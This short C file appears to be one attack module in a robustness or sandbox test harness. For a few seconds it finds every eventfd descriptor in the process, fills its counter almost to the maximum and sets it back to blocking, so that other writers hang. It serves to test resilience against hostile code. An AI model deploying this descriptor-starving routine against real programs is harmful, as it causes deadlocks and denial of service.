/* Fills every event descriptor to the brim and makes it block, so that whoever else writes to it waits for ever. */
#define PLACE IN_RUN
#include "attack.h"

static void *fill(void *unused) {
    (void)unused;
    for (double end = now() + 3; now() < end; usleep(50)) {
        for (int bell = descriptor_of("anon_inode:[eventfd]", 0); bell >= 0;
             bell = descriptor_of("anon_inode:[eventfd]", bell + 1)) {
            uint64_t most = UINT64_MAX - 1;
            fcntl(bell, F_SETFL, O_NONBLOCK);
            if (write(bell, &most, sizeof most) < 0) {
                uint64_t all;
                if (read(bell, &all, sizeof all) == sizeof all && write(bell, &most, sizeof most) < 0) continue;
            }
            fcntl(bell, F_SETFL, 0);
        }
    }
    return NULL;
}

static void attack(void) {
    on_a_thread(fill, NULL);
    pause_for(2);
}
